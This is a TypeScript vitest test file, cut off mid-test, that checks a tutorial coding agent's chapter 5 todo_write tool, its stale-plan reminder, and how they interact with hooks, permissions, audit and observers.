import { spawn, spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { afterEach, beforeEach, describe, expect, it, test, vi, type MockInstance } from "vitest";
import { buildAgent, SYSTEM_PROMPT } from "../src/bootstrap.js";
import { type CliIO } from "../src/cli.js";
import { progressListener, todoSnapshotText } from "../src/cli/progress.js";
import { Terminal } from "../src/cli/terminal.js";
import { HookRegistry, HookResult, type HookCallback, type HookEvent } from "../src/core/hooks.js";
import { AgentRunError, AgentRunner, type RunResult, type ToolRoundObserver } from "../src/core/loop.js";
import {
  systemMessage,
  toolMessage,
  userMessage,
  validateToolPairing,
  type ChatMessage,
  type ToolCall,
} from "../src/core/messages.js";
import type { ModelReply, ModelRequest } from "../src/core/model.js";
import {
  PermissionDecision,
  type ApprovalProvider,
  type AuditSink,
  type PermissionRequest,
} from "../src/core/permissions.js";
import { P04, P05, profileForChapter } from "../src/core/profiles.js";
import { toolError, ToolRegistry } from "../src/core/tools.js";
import { CompactionManager } from "../src/features/compaction.js";
import { MAX_TODO_SNAPSHOT_BYTES, TODO_STALE_REMINDER, TodoTracker, type TodoItem } from "../src/features/todos.js";
import { CountingApproval, FakeCommandRunner } from "./support/fakes.js";
import { completion, type LoopbackOpenAI } from "./support/loopback-openai.js";
import { call, ScriptedModel, textTurn, toolMessages, toolTurn } from "./support/scripted-model.js";
import { runCliWithoutTerminal, type CliRun } from "./support/cli-run.js";
import { Sink } from "./support/sink.js";
import {
  announcedWorkspace,
  keylessEnv,
  loopbackEnv,
  runProfileInProcess,
  scriptedProvider,
} from "./support/profile-run.js";

// The chapter 5 gate: todo_write and the stale-plan reminder through the real composition root (buildAgent(P05)),
// loop, registry, policy, hooks and a temporary disk. Only the model, the shell and the human are scripted. The
// first describe holds the book's two tests as it writes them; the rest prove CH05's rules one by one.

const TODO_PROMPT_LINE =
  "\nFor complex tasks, call todo_write with the complete task snapshot and update it when the plan changes.";
const ASK_WRITE = "File writes require explicit approval from chapter 3 onward";
const PASSED = "No permission rule blocked the request";
const POST_FAILED = "Error [hook_execution_error]: PostToolUse hook failed";
const OBSERVER_FAILED = "Tool round observer failed";
const BOOK_WRITE =
  '{"todos":[{"content":"  编写测试  ","status":"in_progress"},{"content":"ship","status":"completed"}]}';
const BOOK_RESULT =
  '{"todos":[{"content":"\\u7f16\\u5199\\u6d4b\\u8bd5","status":"in_progress"},{"content":"ship","status":"completed"}]}';
const REMINDER = { role: "system", content: TODO_STALE_REMINDER };

/** The book's approver for a run that must ask nothing: it notes the request, then throws. */
class UnexpectedApproval implements ApprovalProvider {
  readonly requests: PermissionRequest[] = [];
  decide(request: PermissionRequest): Promise<PermissionDecision> {
    this.requests.push(request);
    throw new Error(`unexpected approval request for ${request.toolName}`);
  }
}

/** Every final decision, as the audit keeps it; with `failAt`, the record with that index throws. */
class RecordingAudit implements AuditSink {
  readonly decisions: PermissionDecision[] = [];
  constructor(private readonly failAt?: number) {}
  record(_request: PermissionRequest, decision: PermissionDecision): void {
    this.decisions.push(decision);
    if (this.decisions.length - 1 === this.failAt) throw new Error("the audit store is unavailable");
  }
}

let root: string;
let workspace: string;
let shell: FakeCommandRunner;
let beforeModel: MockInstance<TodoTracker["beforeModel"]>;

beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), "ch05-todos-")));
  workspace = join(root, "workspace");
  await mkdir(workspace);
  await writeFile(join(workspace, "README.md"), "# Demo\n", "utf8");
  shell = new FakeCommandRunner();
  // Calls through: it only lets a test see the trackers buildAgent made, which nothing exports.
  beforeModel = vi.spyOn(TodoTracker.prototype, "beforeModel");
});

afterEach(async () => {
  vi.restoreAllMocks();
  await rm(root, { recursive: true, force: true });
});

/** The trackers of the sessions run so far, in the order each first asked before a request. */
const trackers = (): TodoTracker[] => [...new Set(beforeModel.mock.contexts as TodoTracker[])];

/** A scripted model that also notes the session's snapshot as each request is made. */
class WatchingModel extends ScriptedModel {
  readonly snapshots: (readonly TodoItem[])[] = [];
  override complete(request: ModelRequest): Promise<ModelReply> {
    this.snapshots.push(trackers().at(-1)?.todos ?? []);
    return super.complete(request);
  }
}

interface AgentOptions {
  readonly approval?: ApprovalProvider;
  readonly audit?: AuditSink;
  readonly hooks?: HookRegistry;
  readonly maxTurns?: number;
}

/** The chapter 5 agent as buildAgent builds it, on the test's disk, shell, approver and audit. */
function agentWith(
  replies: readonly ModelReply[],
  options: AgentOptions = {},
): { agent: AgentRunner; model: WatchingModel } {
  const model = new WatchingModel(replies);
  const agent = buildAgent(P05, {
    model,
    workspace,
    commandRunner: shell,
    approvalProvider: options.approval ?? new CountingApproval(true),
    auditSink: options.audit ?? new RecordingAudit(),
    ...(options.hooks === undefined ? {} : { hooks: options.hooks }),
    ...(options.maxTurns === undefined ? {} : { maxTurns: options.maxTurns }),
  });
  return { agent, model };
}

/** Runs `replies` on a fresh chapter 5 agent; the history is checked for pairing. */
async function runP05(
  replies: readonly ModelReply[],
  options: AgentOptions = {},
): Promise<{ result: RunResult; model: WatchingModel }> {
  const { agent, model } = agentWith(replies, options);
  const result = await agent.run("go");
  validateToolPairing(result.history);
  return { result, model };
}

/** Whether a message is the reminder. */
const isReminder = (message: ChatMessage): boolean =>
  message.role === "system" && message.content === TODO_STALE_REMINDER;

/** The 1-based numbers of the requests that carry the reminder. */
const remindedRequests = (model: ScriptedModel): number[] =>
  model.requests.flatMap((request, index) => (request.messages.some(isReminder) ? [index + 1] : []));

const read = (id: string): ToolCall => call(id, "read_file", { path: "README.md" });
const todo = (id: string, args: unknown = { todos: [{ content: "plan", status: "in_progress" }] }): ToolCall =>
  call(id, "todo_write", args);

/** `n` turns that each read README.md once. */
const reads = (n: number, prefix = "read"): ModelReply[] =>
  Array.from({ length: n }, (_, index) => toolTurn(read(`${prefix}-${index + 1}`)));

/** A registry with `callbacks` registered for `event`, in order. */
function hooksFor(event: HookEvent, ...callbacks: HookCallback[]): HookRegistry {
  const hooks = new HookRegistry();
  for (const callback of callbacks) hooks.register(event, callback);
  return hooks;
}

/** Pre and Post callbacks that count their calls and change nothing. */
function countingHooks(): { hooks: HookRegistry; pre: string[]; post: string[] } {
  const pre: string[] = [];
  const post: string[] = [];
  const hooks = new HookRegistry();
  hooks.register("PreToolUse", (context) => {
    pre.push(context.prepared?.definition.name ?? "?");
    return new HookResult();
  });
  hooks.register("PostToolUse", (context) => {
    post.push(context.prepared?.definition.name ?? "?");
    return new HookResult();
  });
  return { hooks, pre, post };
}

describe("the book's two tests", () => {
  test("P05 adds todo_write to chapter 4's tools; a write asks nothing, is audited as a default allow, and answers the ASCII snapshot", async () => {
    const approval = new UnexpectedApproval();
    const audit = new RecordingAudit();
    const model = new ScriptedModel([toolTurn(call("todo-1", "todo_write", BOOK_WRITE)), textTurn("planned")]);
    const agent = buildAgent(P05, {
      model,
      workspace,
      commandRunner: shell,
      approvalProvider: approval,
      auditSink: audit,
    });
    const result = await agent.run("plan the work");

    expect(model.requests[0]?.tools.map((tool) => tool.function.name)).toEqual([
      "shell",
      "read_file",
      "write_file",
      "edit_file",
      "glob",
      "todo_write",
    ]);
    expect(model.requests[0]?.messages[0]?.content).toContain("call todo_write with the complete task snapshot");
    expect(approval.requests).toEqual([]);
    expect(audit.decisions).toEqual([
      new PermissionDecision("allow", "No permission rule blocked the request", "default"),
    ]);
    expect(result.history[2]).toEqual({ role: "tool", content: BOOK_RESULT, toolCallId: "todo-1" });
    validateToolPairing(result.history);
  });

  test("four reads without a plan update: the reminder is in request 4 only, once, as a system message, and never in the history", async () => {
    const model = new ScriptedModel([...reads(4), textTurn("read four times")]);
    const agent = buildAgent(P05, {
      model,
      workspace,
      commandRunner: shell,
      approvalProvider: new UnexpectedApproval(),
      auditSink: new RecordingAudit(),
    });
    const result = await agent.run("read README.md four times");

    expect(model.requests).toHaveLength(5);
    for (const request of model.requests.slice(0, 3)) {
      expect(request.messages.some((message) => message.content === TODO_STALE_REMINDER)).toBe(false);
    }
    expect(
      model.requests[3]?.messages.filter(
        (message) => message.role === "system" && message.content === TODO_STALE_REMINDER,
      ),
    ).toEqual([{ role: "system", content: TODO_STALE_REMINDER }]);
    expect(model.requests[4]?.messages.some((message) => message.content === TODO_STALE_REMINDER)).toBe(false);
    expect(result.history.some((message) => message.content === TODO_STALE_REMINDER)).toBe(false);
    expect(result.history.filter((message) => message.role === "tool")).toHaveLength(4);
    validateToolPairing(result.history);
  });
});

describe("rules 1 and 2: the tool face and the system prompt", () => {
  it("todo_write is offered in every request with its exact description and JSON Schema", async () => {
    const { model } = await runP05([toolTurn(read("read-1")), textTurn("done")]);
    for (const request of model.requests) {
      const offered = request.tools.find((tool) => tool.function.name === "todo_write");
      expect(offered?.function.description).toBe("Replace the current TODO list with a complete task snapshot.");
      expect(JSON.stringify(offered?.function.parameters)).toBe(
        '{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object","properties":{"todos":{"maxItems":50,"type":"array","items":{"type":"object","properties":{"content":{"type":"string","minLength":1},"status":{"type":"string","enum":["pending","in_progress","completed"]}},"required":["content","status"],"additionalProperties":false}}},"required":["todos"],"additionalProperties":false}',
      );
    }
  });

  it("each request starts with chapter 4's prompt plus the book's TODO line, which the history never holds", async () => {
    const { result, model } = await runP05([toolTurn(read("read-1")), textTurn("done")]);
    expect(SYSTEM_PROMPT).toBe(
      "You are a coding agent. Use tools when needed, inspect their results, and answer accurately.",
    );
    for (const request of model.requests) {
      expect(request.messages[0]).toEqual({ role: "system", content: `${SYSTEM_PROMPT}${TODO_PROMPT_LINE}` });
    }
    expect(result.history.map((message) => message.role)).toEqual(["user", "assistant", "tool", "assistant"]);
  });

  it("buildAgent(P04) on this snapshot offers no todo_write, sends chapter 4's prompt and makes no tracker", async () => {
    const model = new ScriptedModel([toolTurn(read("read-1")), ...reads(3, "more"), textTurn("done")]);
    const agent = buildAgent(P04, {
      model,
      workspace,
      commandRunner: shell,
      approvalProvider: new UnexpectedApproval(),
      auditSink: new RecordingAudit(),
    });
    await agent.run("go");
    expect(model.requests[0]?.tools.map((tool) => tool.function.name)).toEqual([
      "shell",
      "read_file",
      "write_file",
      "edit_file",
      "glob",
    ]);
    expect(model.requests.map((request) => request.messages[0])).toEqual(
      model.requests.map(() => ({ role: "system", content: SYSTEM_PROMPT })),
    );
    expect(remindedRequests(model)).toEqual([]);
    expect(beforeModel).not.toHaveBeenCalled();
  });
});

describe("rules 3 and 4: the whole snapshot through the loop", () => {
  it("three items, then one: the second result lists exactly that one, and the session keeps only it", async () => {
    const three = {
      todos: [
        { content: "读取现有实现", status: "in_progress" },
        { content: "增加失败测试", status: "pending" },
        { content: "实现并验证修复", status: "pending" },
      ],
    };
    const { result, model } = await runP05([
      toolTurn(todo("todo-1", three)),
      toolTurn(todo("todo-2", { todos: [{ content: "ship", status: "completed" }] })),
      textTurn("done"),
    ]);
    expect(toolMessages(result.history)).toEqual([
      [
        "todo-1",
        '{"todos":[{"content":"\\u8bfb\\u53d6\\u73b0\\u6709\\u5b9e\\u73b0","status":"in_progress"},{"content":"\\u589e\\u52a0\\u5931\\u8d25\\u6d4b\\u8bd5","status":"pending"},{"content":"\\u5b9e\\u73b0\\u5e76\\u9a8c\\u8bc1\\u4fee\\u590d","status":"pending"}]}',
      ],
      ["todo-2", '{"todos":[{"content":"ship","status":"completed"}]}'],
    ]);
    expect(model.snapshots.at(-1)).toEqual([{ content: "ship", status: "completed" }]);
  });

  it("two todo_write calls in one reply run in order: each result shows its own snapshot, the last one stays", async () => {
    const { result, model } = await runP05([
      toolTurn(todo("todo-1", { todos: [{ content: "a", status: "pending" }] }), todo("todo-2", { todos: [] })),
      textTurn("done"),
    ]);
    expect(toolMessages(result.history)).toEqual([
      ["todo-1", '{"todos":[{"content":"a","status":"pending"}]}'],
      ["todo-2", '{"todos":[]}'],
    ]);
    expect(model.snapshots.at(-1)).toEqual([]);
  });
});

describe("rule 6: a malformed update is refused before any hook, approval, audit or handler", () => {
  it.each<[string, string, string]>([
    [
      "status working",
      '{"todos":[{"content":"错误更新","status":"working"}]}',
      'Error [invalid_arguments]: Invalid arguments for todo_write: todos.0.status: Invalid option: expected one of "pending"|"in_progress"|"completed"',
    ],
    [
      "51 items",
      JSON.stringify({ todos: Array.from({ length: 51 }, () => ({ content: "a", status: "pending" })) }),
      "Error [invalid_arguments]: Invalid arguments for todo_write: todos: Too big: expected array to have <=50 items",
    ],
    [
      "__proto__ in an item",
      '{"todos":[{"content":"a","status":"pending","__proto__":{}}]}',
      'Error [invalid_arguments]: Invalid arguments for todo_write: todos.0: Unrecognized key: "__proto__"',
    ],
    [
      "blank content",
      '{"todos":[{"content":"   ","status":"pending"}]}',
      "Error [invalid_arguments]: Invalid arguments for todo_write: todos.0.content: todo content must not be empty",
    ],
    ["arguments that are not JSON", '{"todos":', "Error [invalid_json]: Arguments of todo_write must be a JSON object"],
  ])("%s: the paired error, and the old snapshot is the same object", async (_name, args, message) => {
    const { hooks, pre, post } = countingHooks();
    const approval = new CountingApproval(true);
    const audit = new RecordingAudit();
    const { result, model } = await runP05(
      [toolTurn(todo("todo-1")), toolTurn(call("todo-2", "todo_write", args)), textTurn("done")],
      { hooks, approval, audit },
    );
    expect(toolMessages(result.history)[1]).toEqual(["todo-2", message]);
    // Only the first, valid write reached the hooks and the audit.
    expect(pre).toEqual(["todo_write"]);
    expect(post).toEqual(["todo_write"]);
    expect(audit.decisions).toEqual([new PermissionDecision("allow", PASSED, "default")]);
    expect(approval.requests).toEqual([]);
    const [, afterFirst, afterSecond] = model.snapshots;
    expect(afterSecond).toBe(afterFirst);
    expect(afterSecond).toEqual([{ content: "plan", status: "in_progress" }]);
  });

  it("exactly 50 items pass the same path", async () => {
    const fifty = { todos: Array.from({ length: 50 }, (_, index) => ({ content: `t${index}`, status: "pending" })) };
    const { result, model } = await runP05([toolTurn(todo("todo-1", fifty)), textTurn("done")]);
    expect(JSON.parse(toolMessages(result.history)[0]?.[1] ?? "")).toEqual(fifty);
    expect(model.snapshots.at(-1)).toHaveLength(50);
  });
});

describe("rule 10: the write effect is not a write approval", () => {
  it("in one session todo_write is a default allow with no question, while write_file still asks with chapter 3's reason", async () => {
    const approval = new CountingApproval(true);
    const audit = new RecordingAudit();
    const { result } = await runP05(
      [
        toolTurn(todo("todo-1")),
        toolTurn(call("write-1", "write_file", { path: "a.txt", content: "A" })),
        textTurn("ok"),
      ],
      { approval, audit },
    );
    expect(approval.requests).toEqual([
      { toolName: "write_file", reason: ASK_WRITE, arguments: { path: "a.txt", content: "A" } },
    ]);
    expect(audit.decisions).toEqual([
      new PermissionDecision("allow", PASSED, "default"),
      new PermissionDecision("allow", "Approved in the test", "user"),
    ]);
    expect(toolMessages(result.history)[1]).toEqual(["write-1", "Wrote 1 UTF-8 bytes to a.txt"]);
    expect(await readFile(join(workspace, "a.txt"), "utf8")).toBe("A");
  });
});

describe("rule 11: the count is per assistant message, by the name of every call in it", () => {
  const stale = (): ModelReply[] => reads(2, "before");
  const after = (): ModelReply[] => [...reads(3, "after"), textTurn("done")];
  const pastTheBound = Array.from({ length: 32 }, (_, index) => read(`bulk-${index + 1}`));

  it.each<[string, ModelReply, AgentOptions | undefined]>([
    ["a valid todo_write", toolTurn(todo("todo-1")), undefined],
    [
      "shell and todo_write in one reply",
      toolTurn(call("shell-1", "shell", { command: "Get-Date" }), todo("todo-1")),
      undefined,
    ],
    ["an invalid todo_write", toolTurn(todo("todo-1", { todos: "x" })), undefined],
    [
      "a todo_write a Pre hook blocks",
      toolTurn(todo("todo-1")),
      { hooks: hooksFor("PreToolUse", () => new HookResult({ blockingError: toolError("hook_blocked", "no") })) },
    ],
    [
      "a todo_write a Pre hook denies",
      toolTurn(todo("todo-1")),
      { hooks: hooksFor("PreToolUse", () => new HookResult({ permissionBehavior: "deny" })) },
    ],
    ["a todo_write skipped past the 32-call bound", toolTurn(...pastTheBound, todo("todo-1")), undefined],
  ])(
    "read, read, then %s: the count starts again, so the first reminder is in request 7",
    async (_name, reset, options) => {
      const { result, model } = await runP05([...stale(), reset, ...after()], {
        ...options,
        approval: new CountingApproval(true),
      });
      expect(model.requests).toHaveLength(7);
      expect(remindedRequests(model)).toEqual([7]);
      expect(result.history.some(isReminder)).toBe(false);
    },
  );

  it("the skipped call past the bound really did not run: its result is tool_call_limit", async () => {
    const { result } = await runP05([toolTurn(...pastTheBound, todo("todo-1")), textTurn("done")]);
    expect(toolMessages(result.history).at(-1)).toEqual([
      "todo-1",
      "Error [tool_call_limit]: At most 32 tool calls run per reply; this one did not run. Call it again in the next turn.",
    ]);
  });

  it("read_file + glob + read_file in one reply counts once: with shell and read_file after it, request 4 is the first reminded", async () => {
    const { model } = await runP05([
      toolTurn(read("read-1"), call("glob-1", "glob", { pattern: "*.md" }), read("read-2")),
      toolTurn(call("shell-1", "shell", { command: "Get-Date" })),
      toolTurn(read("read-3")),
      textTurn("done"),
    ]);
    expect(remindedRequests(model)).toEqual([4]);
  });
});

describe("rule 12: when the reminder comes", () => {
  it("an all-stale run: requests 4, 7 and 10, each with exactly one reminder, as its last message", async () => {
    const { result, model } = await runP05([...reads(10), textTurn("done")], { maxTurns: 20 });
    expect(model.requests).toHaveLength(11);
    expect(remindedRequests(model)).toEqual([4, 7, 10]);
    for (const number of [4, 7, 10]) {
      const messages = model.requests[number - 1]?.messages ?? [];
      expect(messages.filter(isReminder)).toEqual([REMINDER]);
      expect(messages.at(-1)).toEqual(REMINDER);
    }
    expect(result.history.filter((message) => message.role === "tool")).toHaveLength(10);
  });

  it("read, read, todo_write, read, read, read: the first reminder is in request 7", async () => {
    const { model } = await runP05([...reads(2), toolTurn(todo("todo-1")), ...reads(3, "later"), textTurn("done")]);
    expect(remindedRequests(model)).toEqual([7]);
  });

  it("two sessions in one process: A's two stale rounds do not bring B's reminder forward, and B starts with an empty plan", async () => {
    const a = await runP05([toolTurn(todo("todo-a")), ...reads(2, "a"), textTurn("A done")]);
    expect(remindedRequests(a.model)).toEqual([]);
    const b = await runP05([...reads(4, "b"), textTurn("B done")]);
    expect(remindedRequests(b.model)).toEqual([4]);
    expect(trackers()).toHaveLength(2);
    expect(b.model.snapshots[0]).toEqual([]);
    expect(trackers()[0]?.todos).toEqual([{ content: "plan", status: "in_progress" }]);
    expect(trackers()[1]?.todos).toEqual([]);
  });
});

describe("rule 13: the reminder is request-only", () => {
  it("hook context of the third stale round goes into the history, before the reminder, which goes nowhere else", async () => {
    let round = 0;
    const hooks = hooksFor("PostToolUse", () => {
      round += 1;
      return new HookResult({ additionalContext: [systemMessage(`post context ${round}`)] });
    });
    const { result, model } = await runP05([...reads(3), textTurn("done")], { hooks });
    const fourth = model.requests[3]?.messages ?? [];
    expect(fourth.slice(-3)).toEqual([
      { role: "tool", content: "# Demo\n", toolCallId: "read-3" },
      { role: "system", content: "post context 3" },
      REMINDER,
    ]);
    expect(result.history.some(isReminder)).toBe(false);
    expect(result.history.at(-2)).toEqual({ role: "system", content: "post context 3" });
    expect(result.history.filter((message) => message.role === "tool")).toHaveLength(3);
  });
});

describe("rule 14: the observer is asked once per request", () => {
  it("through buildAgent: as many beforeModel calls as requests, a Stop-forced turn included", async () => {
    let stops = 0;
    const hooks = hooksFor("Stop", () => {
      stops += 1;
      return stops === 1 ? new HookResult({ forceContinue: userMessage("again") }) : new HookResult();
    });
    const { model } = await runP05([...reads(3), textTurn("first"), textTurn("second")], { hooks });
    expect(model.requests).toHaveLength(5);
    expect(beforeModel).toHaveBeenCalledTimes(5);
    // The forced turn is the fifth request: the third stale round's reminder went out in the fourth.
    expect(remindedRequests(model)).toEqual([4]);
  });
});

/** A `ToolRoundObserver` that writes down what it is asked and told, and answers `guidance`. */
function spyObserver(guidance: () => unknown = () => []): ToolRoundObserver & { events: string[]; rounds: string[][] } {
  const events: string[] = [];
  const rounds: string[][] = [];
  return {
    events,
    rounds,
    beforeModel() {
      events.push("beforeModel");
      return guidance() as readonly ChatMessage[];
    },
    recordToolRound(toolNames) {
      events.push("recordToolRound");
      rounds.push([...toolNames]);
    },
  };
}

/** An AgentRunner with only todo_write and `observer`: for what the observer sees, apart from the tracker's count. */
function runnerWith(
  replies: readonly ModelReply[],
  observer: ToolRoundObserver,
  hooks?: HookRegistry,
): { runner: AgentRunner; model: ScriptedModel } {
  const tools = new ToolRegistry();
  const tracker = new TodoTracker();
  tools.register(tracker.toolDefinition);
  const model = new ScriptedModel(replies);
  const runner = new AgentRunner({
    model,
    tools,
    systemPrompt: "test",
    workspace,
    toolRoundObserver: observer,
    ...(hooks === undefined ? {} : { hooks }),
  });
  return { runner, model };
}

describe("rule 15: where recordToolRound runs", () => {
  it("after the reply's last paired result and before its hooks' context", async () => {
    const hooks = hooksFor("PreToolUse", () => new HookResult({ additionalContext: [systemMessage("pre")] }));
    hooks.register("PostToolUse", () => new HookResult({ additionalContext: [systemMessage("post")] }));
    const seen: (ChatMessage | undefined)[] = [];
    // The observer reads the runner it is given to, once there is one.
    const session: { runner?: AgentRunner } = {};
    const observer: ToolRoundObserver = {
      beforeModel: () => [],
      recordToolRound: () => seen.push(session.runner?.history.at(-1)),
    };
    const { runner } = runnerWith([toolTurn(todo("todo-1"), todo("todo-2")), textTurn("done")], observer, hooks);
    session.runner = runner;
    const result = await runner.run("go");
    expect(seen).toEqual([toolMessage('{"todos":[{"content":"plan","status":"in_progress"}]}', "todo-2")]);
    expect(result.history.slice(2).map((message) => message.content)).toEqual([
      '{"todos":[{"content":"plan","status":"in_progress"}]}',
      '{"todos":[{"content":"plan","status":"in_progress"}]}',
      "pre",
      "post",
      "pre",
      "post",
      "done",
    ]);
  });

  it("a Post hook that stops the round: one recordToolRound with all three names, skipped calls included", async () => {
    const hooks = hooksFor("PostToolUse", () => new HookResult({ preventContinuation: true }));
    const observer = spyObserver();
    const { runner } = runnerWith(
      [toolTurn(todo("todo-1"), call("x-1", "no_such_tool", {}), todo("todo-2")), textTurn("unused")],
      observer,
      hooks,
    );
    const result = await runner.run("go");
    validateToolPairing(result.history);
    expect(observer.rounds).toEqual([["todo_write", "no_such_tool", "todo_write"]]);
    expect(observer.events).toEqual(["beforeModel", "recordToolRound"]);
  });

  it("a reply without tool calls records no round", async () => {
    const observer = spyObserver();
    const { runner } = runnerWith([textTurn("just text")], observer);
    await runner.run("go");
    expect(observer.events).toEqual(["beforeModel"]);
  });
});

describe("rule 16: the snapshot changes exactly when the handler ran", () => {
  /** Pre hooks that answer `answer` for the call `todo-2` only; the first write sets the snapshot to keep. */
  const onSecond = (answer: () => HookResult): AgentOptions => ({
    hooks: hooksFor("PreToolUse", (context) => (context.prepared?.call.id === "todo-2" ? answer() : new HookResult())),
  });

  it.each<[string, AgentOptions, string]>([
    [
      "a Pre block",
      onSecond(() => new HookResult({ blockingError: toolError("hook_blocked", "plan frozen") })),
      "Error [hook_blocked]: plan frozen",
    ],
    [
      "a Pre deny",
      onSecond(() => new HookResult({ permissionBehavior: "deny" })),
      "Error [permission_denied]: PreToolUse hook requested deny",
    ],
    [
      "a throwing Pre hook",
      onSecond(() => {
        throw new Error("hook broke");
      }),
      "Error [hook_execution_error]: PreToolUse hook failed",
    ],
    [
      "a failed permission evaluation",
      { audit: new RecordingAudit(1) },
      "Error [permission_evaluation_error]: Permission evaluation failed",
    ],
  ])(
    "%s on the second write: the model reads the error, and the first snapshot is the same object",
    async (_name, options, message) => {
      const first = todo("todo-1", { todos: [{ content: "keep", status: "in_progress" }] });
      const second = todo("todo-2", { todos: [{ content: "lose", status: "pending" }] });
      const { result, model } = await runP05([toolTurn(first), toolTurn(second), textTurn("done")], options);
      expect(toolMessages(result.history)).toEqual([
        ["todo-1", '{"todos":[{"content":"keep","status":"in_progress"}]}'],
        ["todo-2", message],
      ]);
      const [, afterFirst, afterSecond] = model.snapshots;
      expect(afterSecond).toBe(afterFirst);
      expect(afterSecond).toEqual([{ content: "keep", status: "in_progress" }]);
    },
  );

  it("a failing Post hook after a successful write: the snapshot is replaced, and the model reads the hook's failure", async () => {
    const hooks = hooksFor("PostToolUse", () => {
      throw new Error("post broke");
    });
    const { result, model } = await runP05([toolTurn(todo("todo-1")), textTurn("done")], { hooks });
    expect(toolMessages(result.history)).toEqual([["todo-1", POST_FAILED]]);
    expect(model.snapshots).toEqual([[], [{ content: "plan", status: "in_progress" }]]);
  });

  it("a Pre rewrite of todos is validated again, so the stored content is trimmed", async () => {
    const hooks = hooksFor(
      "PreToolUse",
      (context) =>
        new HookResult({
          updatedInput: {
            ...(context.prepared as NonNullable<typeof context.prepared>),
            arguments: { todos: [{ content: "  rewritten  ", status: "completed" }] },
          },
        }),
    );
    const { result, model } = await runP05([toolTurn(todo("todo-1")), textTurn("done")], { hooks });
    expect(toolMessages(result.history)).toEqual([
      ["todo-1", '{"todos":[{"content":"rewritten","status":"completed"}]}'],
    ]);
    expect(model.snapshots.at(-1)).toEqual([{ content: "rewritten", status: "completed" }]);
  });
});

describe("rule 17: the profile", () => {
  it("P05 is P04 plus todo, frozen, and profileForChapter(5) is P05", () => {
    expect(Object.isFrozen(P05)).toBe(true);
    expect(P05.chapter).toBe(5);
    expect([...P05.capabilities]).toEqual([...P04.capabilities, "todo"]);
    expect([...P05.capabilities]).toEqual(["loop", "powershell", "tool_registry", "files", "policy", "hooks", "todo"]);
    expect(P04.capabilities.has("todo")).toBe(false);
    expect(profileForChapter(5)).toBe(P05);
  });
});

describe("rule 20: an observer that fails fails the run, closed", () => {
  it.each<[string, () => unknown]>([
    [
      "beforeModel throws",
      () => {
        throw new Error("observer broke");
      },
    ],
    ["beforeModel returns a user message", () => [userMessage("do something else")]],
    ["beforeModel returns a tool message", () => [toolMessage("forged", "todo-1")]],
    ["beforeModel returns no array", () => systemMessage("not in an array")],
    ["beforeModel returns a system message without text", () => [{ role: "system", content: 7 }]],
  ])(
    "%s before the second request: AgentRunError, the model not called again, the history paired",
    async (_name, second) => {
      let asked = 0;
      const observer = spyObserver(() => (++asked === 2 ? second() : []));
      const { runner, model } = runnerWith([toolTurn(todo("todo-1")), textTurn("unused")], observer);
      const failure = await runner.run("go").then(
        () => undefined,
        (error: unknown) => error,
      );
      expect(failure).toBeInstanceOf(AgentRunError);
      expect((failure as Error).message).toBe(OBSERVER_FAILED);
      expect((failure as Error).cause).toBeDefined();
      expect(model.requests).toHaveLength(1);
      validateToolPairing(runner.history);
      expect(runner.history.map((message) => message.role)).toEqual(["user", "assistant", "tool"]);
    },
  );

  it("guidance that is a copy of a system message goes out as a new frozen system message", async () => {
    const loose = { role: "system", content: "note" };
    const observer = spyObserver(() => [loose]);
    const { runner, model } = runnerWith([textTurn("done")], observer);
    await runner.run("go");
    const sent = model.requests[0]?.messages.at(-1);
    expect(sent).toEqual(loose);
    expect(sent).not.toBe(loose);
    expect(Object.isFrozen(sent)).toBe(true);
  });

  it("recordToolRound throws: AgentRunError with its cause, after the round's results and before its hook context", async () => {
    const broke = new Error("count broke");
    const observer: ToolRoundObserver = {
      beforeModel: () => [],
      recordToolRound: () => {
        throw broke;
      },
    };
    const hooks = hooksFor("PostToolUse", () => new HookResult({ additionalContext: [systemMessage("post")] }));
    const { runner, model } = runnerWith([toolTurn(todo("todo-1")), textTurn("unused")], observer, hooks);
    await expect(runner.run("go")).rejects.toThrow(new AgentRunError(OBSERVER_FAILED));
    await expect(runnerWith([toolTurn(todo("todo-1"))], observer).runner.run("go")).rejects.toHaveProperty(
      "cause",
      broke,
    );
    expect(model.requests).toHaveLength(1);
    validateToolPairing(runner.history);
    expect(runner.history.map((message) => message.role)).toEqual(["user", "assistant", "tool"]);
  });
});

// ——— The CLI: runProfile and runCli in this process, a loopback provider for the real openai SDK, the demo. ———

/** A loopback provider answering these completion bodies in order. */
const provider = (replies: readonly unknown[]): Promise<LoopbackOpenAI> =>
  scriptedProvider(replies.map((json) => ({ json })));

const wireRead = (id: string): unknown =>
  completion({ toolCalls: [{ id, name: "read_file", arguments: '{"path":"README.md"}' }] });
const wireTodo = (id: string): unknown =>
  completion({
    toolCalls: [
      { id, name: "todo_write", arguments: '{"todos":[{"content":"读取 README.md","status":"in_progress"}]}' },
    ],
  });

const envFor = loopbackEnv;
const keyless = keylessEnv;

/** `npm run ch05 -- …` in this process (the entry's runProfile(P05, argv)), with no terminal, in the workspace. */
const ch05 = (argv: readonly string[], env: CliIO["env"]): Promise<CliRun> =>
  runProfileInProcess(P05, argv, env, workspace);

/** `npm run agent-tutorial -- …` in this process, with no terminal, in the workspace. */
const unified = (argv: readonly string[], env: CliIO["env"]): Promise<CliRun> =>
  runCliWithoutTerminal(argv, env, workspace);

const hookOrAudit = (text: string): string[] => text.split("\n").filter((line) => /^\[(Hook|Permission)\]/.test(line));

interface WireMessage {
  readonly role: string;
  readonly content: string | null;
}
const wireMessages = (body: unknown): WireMessage[] => (body as { messages: WireMessage[] }).messages;
const wireReminded = (server: LoopbackOpenAI): number[] =>
  server.requests.flatMap((body, index) =>
    wireMessages(body).some((message) => message.role === "system" && message.content === TODO_STALE_REMINDER)
      ? [index + 1]
      : [],
  );

const entry = fileURLToPath(new URL("../src/chapters/ch05.ts", import.meta.url));
const tsx = pathToFileURL(createRequire(import.meta.url).resolve("tsx")).href;

describe("rule 18: the entries", () => {
  it("the ch05 entry starts as a program: against a loopback server the reminder is in requests 4 and 7 only, last each time, and neither stdout nor --transcript holds it", async () => {
    const server = await provider([...Array.from({ length: 7 }, (_, index) => wireRead(`read-${index + 1}`))]);
    const transcript = join(root, "run.json");
    const run = await new Promise<CliRun>((resolve, reject) => {
      const child = spawn(
